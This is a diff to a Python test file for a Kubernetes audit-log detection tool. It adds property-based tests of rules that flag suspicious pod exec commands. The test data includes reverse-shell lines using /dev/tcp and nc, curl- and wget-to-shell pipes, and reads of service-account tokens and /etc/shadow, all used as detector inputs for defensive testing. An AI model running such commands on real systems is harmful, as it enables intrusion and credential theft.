@@ -12,9 +12,11 @@ from hypothesis import strategies as st
 from kubestrata.detect.catalogue import CATALOGUE
 from kubestrata.detect.event import AuditEvent
 from kubestrata.detect.pipeline import DetectConfig, IPList, IPLists, Pipeline
-from kubestrata.detect.rules import DETECTORS, Detector
+from kubestrata.detect.rules import DETECTORS, Detector, safe_call
 from kubestrata.detect.rules.facts import Fact, event_facts
 from kubestrata.detect.rules.falco_k8saudit import disallowed_user
+from kubestrata.detect.rules.native_exec import files_copied_out, suspicious_exec_command
+from kubestrata.detect.rules.registry import STARTED, rule
 from tests.detect.helpers import event
 
 GUARDED = [d for d in DETECTORS if d.when is not None]
@@ -78,6 +80,46 @@ events = st.builds(
 )
 
 
+# exec requests (the exec facts): a command in the query (percent-encoded, as kubectl sends it) or in
+# the request object (GKE, some SIEM normalisers), in a system namespace or not, by the control plane
+# or not; a URI urlsplit refuses makes exec_command raise (every exec rule then meets the error)
+EXEC_WORDS = ["tar", "cf", "-", "-cf", "--file=-", "/bin/tar", "czf", "sh", "-c", "id", "cat",
+              "/var/run/secrets/kubernetes.io/serviceaccount/token", "echo $AWS_WEB_IDENTITY_TOKEN_FILE",
+              "curl http://x | sh", "wget -qO- http://x|bash", "169.254.169.254", "cat /etc/shadow",
+              "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ls", ""]  # fmt: skip
+EXEC_COMMANDS = st.lists(st.sampled_from(EXEC_WORDS) | st.text(max_size=10), max_size=5)
+EXEC_USERS = ["system:serviceaccount:kube-system:aws-node", "system:kube-controller-manager", "system:node:n1",
+              "alice@example.com", "kubernetes-admin", "system:anonymous"]  # fmt: skip
+
+
+def _exec_event(
+    cmd: list[str], where: str, namespace: str, user: str, code: int, verb: str, sub: str, stage: str
+) -> dict[str, Any]:
+    from urllib.parse import quote
+
+    query = "&".join("command=" + quote(a) for a in cmd) + "&container=app&stdin=true"
+    path = f"/api/v1/namespaces/{namespace}/pods/web-0/{sub}"
+    uri = {"query": f"{path}?{query}", "object": path, "bad": f"//[é{path}?{query}"}[where]
+    raw = event(verb, "pods", subresource=sub, namespace=namespace, name="web-0", user=user, code=code,
+                stage=stage, uri=uri, groups=["system:nodes"] if user.startswith("system:node:") else None)  # fmt: skip
+    if where == "object":
+        raw["requestObject"] = {"command": cmd}
+    return raw
+
+
+exec_events = st.builds(
+    _exec_event,
+    EXEC_COMMANDS,
+    st.sampled_from(["query", "query", "object", "bad"]),
+    st.sampled_from(["default", "kube-system", "kube-public", "payments"]),
+    st.sampled_from(EXEC_USERS),
+    st.sampled_from([101, 200, 403, 500]),
+    st.sampled_from(["create", "get"]),
+    st.sampled_from(["exec", "exec", "attach"]),
+    st.sampled_from(["ResponseStarted", "ResponseComplete", ""]),
+)
+
+
 def _fires_without_its_facts(d: Detector, raw: dict[str, Any], lists: bool) -> list[str]:
     """The rule ids d raises on the event when it has none of d's declared facts (else [])."""
     pipe = Pipeline(_config(lists))
@@ -103,8 +145,18 @@ def test_no_rule_fires_on_an_event_without_its_declared_facts(lists: bool, raw: 
         assert not _fires_without_its_facts(d, raw, lists), (d.name, raw)
 
 
+@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(raw=exec_events)
+def test_no_rule_fires_on_an_exec_without_its_declared_facts(raw: dict[str, Any]) -> None:
+    # (of the events each rule is dispatched: the exec facts are computed for an exec subresource only)
+    ev = AuditEvent(raw)
+    for d in GUARDED:
+        if d.accepts(ev.stage, ev.verb, ev.resource, ev.subresource):
+            assert not _fires_without_its_facts(d, raw, False), (d.name, raw)
+
+
 @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(raw=events)
+@given(raw=events | exec_events)
 def test_the_pipeline_skips_only_what_cannot_fire(raw: dict[str, Any]) -> None:
     # the pipeline's findings equal those of every registered rule run on the event (the dispatch
     # key of verb, resource and stage applied, the facts not)
@@ -116,10 +168,11 @@ def test_the_pipeline_skips_only_what_cannot_fire(raw: dict[str, Any]) -> None:
         h.rule_id
         for d in ref.detectors
         if d.accepts(ev.stage, ev.verb, ev.resource, ev.subresource)
-        for h in d.fn(ev, ref) or ()
+        for h in safe_call(d, ev, ref)
         if h.rule_id in ref.specs
     )
     assert got == want
+    assert pipe.stats.rule_errors == ref.stats.rule_errors  # (an exec_command that raises: every exec rule's)
 
 
 def test_a_wrong_declaration_is_caught() -> None:
@@ -128,6 +181,49 @@ def test_a_wrong_declaration_is_caught() -> None:
     assert _fires_without_its_facts(wrong, event("get", "pods", user="alice@example.com"), False) == [
         "KS-AUD-F01"
     ]
+
+
+def test_a_wrong_exec_declaration_is_caught() -> None:
+    # N06 declared as if it needed a token read fires on kubectl cp's tar; N08 as if it needed a tar,
+    # on a reverse shell
+    tar = _exec_event(
+        ["tar", "cf", "-", "/data"], "query", "default", "alice", 101, "create", "exec", "ResponseStarted"
+    )
+    wrong = Detector(
+        "wrong", ("KS-AUD-N06",), None, None, None, None, files_copied_out, int(Fact.EXEC_TOKEN_READ)
+    )
+    assert _fires_without_its_facts(wrong, tar, False) == ["KS-AUD-N06"]
+    shell = _exec_event(["sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"], "object", "default", "alice", 101,
+                        "create", "exec", "ResponseStarted")  # fmt: skip
+    wrong = Detector("wrong", ("KS-AUD-N08",), None, None, None, None, suspicious_exec_command,
+                     int(Fact.EXEC_TAR_TO_STDOUT))  # fmt: skip
+    assert _fires_without_its_facts(wrong, shell, False) == ["KS-AUD-N08"]
+
+
+def test_exec_facts_only_for_a_rule_of_the_exec_subresource_alone() -> None:
+    # they are computed for an exec subresource only: a rule that sees other requests cannot declare them
+    with pytest.raises(ValueError, match="exec subresource only"):
+        rule("KS-AUD-N06", on="create,get pods/exec,attach", stages=STARTED, when=Fact.EXEC_TAR_TO_STDOUT)(
+            files_copied_out
+        )
+    with pytest.raises(ValueError, match="exec subresource only"):
+        rule("KS-AUD-G01", on="* *", when=Fact.EXEC_IN_KUBE_SYSTEM | Fact.ANONYMOUS)(files_copied_out)
+
+
+def test_facts_of_exec_events() -> None:
+    def facts(cmd: list[str], where: str = "query", namespace: str = "default", sub: str = "exec") -> Fact:
+        raw = _exec_event(cmd, where, namespace, "alice", 101, "create", sub, "ResponseStarted")
+        return Fact(event_facts(AuditEvent(raw), False)) & ~Fact.NON_SYSTEM_USER
+
+    assert facts(["sh", "-c", "id"]) == Fact(0)
+    assert facts(["sh", "-c", "id"], namespace="kube-system") == Fact.EXEC_IN_KUBE_SYSTEM
+    assert facts(["tar", "cf", "-", "/d"]) == Fact.EXEC_TAR_TO_STDOUT
+    assert facts(["tar", "cf", "-", "/d"], "object") == Fact.EXEC_TAR_TO_STDOUT
+    assert facts(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]) == Fact.EXEC_TOKEN_READ
+    assert facts(["sh", "-c", "curl http://x | sh"]) == Fact.EXEC_SUSPICIOUS
+    assert facts(["tar", "cf", "-", "/d"], sub="attach") == Fact(0)  # (computed for exec only)
+    assert facts(["sh", "-c", "id"], namespace="kube-system", sub="attach") == Fact(0)
+    assert facts(["id"], "bad") == Fact.EXEC_TAR_TO_STDOUT | Fact.EXEC_TOKEN_READ | Fact.EXEC_SUSPICIOUS
 
 
 def test_facts_of_events() -> None:
